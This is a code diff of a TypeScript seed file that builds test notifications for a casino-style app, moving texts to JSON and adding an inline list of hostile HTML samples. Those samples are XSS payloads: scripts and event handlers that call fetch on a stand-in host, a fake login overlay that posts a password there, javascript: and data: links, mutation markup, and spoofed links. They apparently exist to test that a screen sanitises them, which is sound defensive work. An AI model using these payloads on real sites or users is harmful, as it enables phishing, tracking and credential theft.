@@ -1,7 +1,11 @@
 import type { Notification, NotificationContent } from '../../shared/contract/notifications.ts'
+import texts from '../texts/notifications.json' with { type: 'json' }
 import { type Clock, timeA } from './clock.ts'
 import { drifting, type WireObject, at, type Random, randomOf, uuidOf } from './seed.ts'
-import { hostileHtml, carelessMessages, type Language, languages, type Message, messages } from './notificationTexts.ts'
+
+// `he` is written from right to left.
+const languages = ['en', 'de', 'pt', 'he'] as const
+type Language = (typeof languages)[number]
 
 const notificationCount = 120
 const amounts = ['€10.00', '€25.00', '€148.20', '€1,204,551.00']
@@ -14,12 +18,36 @@ const filled = (html: string, index: number, origin: string) =>
     .replaceAll('{game}', at(games, index))
     .replaceAll('{picture}', `${origin}/storage/notifications/2026/inline-${index % 5}.png`)
 
-const contentsOf = (message: Message, index: number, origin: string, spoken: readonly Language[] = languages) =>
+const contentsOf = (
+  message: Readonly<Record<Language, string>>,
+  index: number,
+  origin: string,
+  spoken: readonly Language[] = languages
+) =>
   spoken.map((language): NotificationContent => ({
     language,
     content: filled(message[language], index, origin),
     is_default: language === spoken[0]
   }))
+
+// Addresses end in .invalid, which never resolves (RFC 6761): a successful attack still reaches no host.
+const tracker = 'https://tracker.invalid'
+
+/** Contents that a careless screen would run, load or follow. Each has readable text beside its attack. */
+const hostileHtml: readonly string[] = [
+  `<p>Your prize is ready.</p><script>parent.document.title = 'owned'; fetch('${tracker}/script')</script>`,
+  `<p>Look at this picture.</p><img src="${tracker}/open.gif?player=1" width="1" height="1" onerror="fetch('${tracker}/onerror')">`,
+  `<style>@import url('${tracker}/import.css'); body { background: url('${tracker}/background.png') } p::after { content: url('${tracker}/after.png') }</style><p>A styled message.</p>`,
+  `<div style="position:fixed;inset:0;z-index:99999;background:#fff"><h1>Session expired</h1><form action="${tracker}/login" method="post"><input name="password" type="password" autofocus onfocus="this.form.submit()"><button>Sign in</button></form></div>`,
+  `<p>Claim it <a href="javascript:alert(document.domain)">here</a>, <a href="data:text/html,<script>alert(1)</script>">here</a> or <a href="https://casino.example@tracker.invalid/login">here</a>.</p>`,
+  `<svg xmlns="http://www.w3.org/2000/svg" width="80" height="80" onload="fetch('${tracker}/svg')"><image href="${tracker}/svg-image.png"/><a href="javascript:alert(1)"><text y="40">Win</text></a></svg><p>An animated gift.</p>`,
+  `<meta http-equiv="refresh" content="0;url=${tracker}/refresh"><base href="${tracker}/"><link rel="stylesheet" href="${tracker}/link.css"><p>Please wait…</p>`,
+  `<iframe src="${tracker}/frame" srcdoc="<script>top.location='${tracker}/top'</script>"></iframe><object data="${tracker}/object"></object><embed src="${tracker}/embed"><p>Play the trailer.</p>`,
+  `<video autoplay poster="${tracker}/poster.jpg" src="${tracker}/video.mp4"></video><audio src="${tracker}/audio.mp3" autoplay></audio><p>Listen to this.</p>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math><p>Mutated markup.</p>`,
+  `<p>Pay to \u202Elagel.oniscac\u202C today.</p><a href="https://xn--csino-3ve.example/">https://casino.example/</a><a href="smb://tracker.invalid/share">share</a>`,
+  `<details open ontoggle="fetch('${tracker}/toggle')"><summary>More</summary>${'<b>'.repeat(400)}deep${'</b>'.repeat(400)}</details>`
+]
 
 const hostileContents = (index: number): NotificationContent[] => [
   { language: 'en', content: at(hostileHtml, Math.floor(index / 10)), is_default: true },
@@ -37,11 +65,11 @@ const defaults = (contents: NotificationContent[], marked: (index: number) => bo
 const contents = (index: number, random: Random, origin: string): NotificationContent[] => {
   if (index % 10 === 4) return hostileContents(index)
   if (index % 10 === 7) {
-    const careless = contentsOf(at(carelessMessages, Math.floor(index / 10)), index, origin)
+    const careless = contentsOf(at(texts.careless, Math.floor(index / 10)), index, origin)
     if (index % 30 === 17) return defaults(careless, () => false)
     return index % 30 === 27 ? defaults(careless, (place) => place < 2) : careless
   }
-  return contentsOf(random.pick(messages), index, origin, spokenBy(random))
+  return contentsOf(random.pick(texts.messages), index, origin, spokenBy(random))
 }
 
 const drifts: Readonly<Record<number, WireObject>> = {
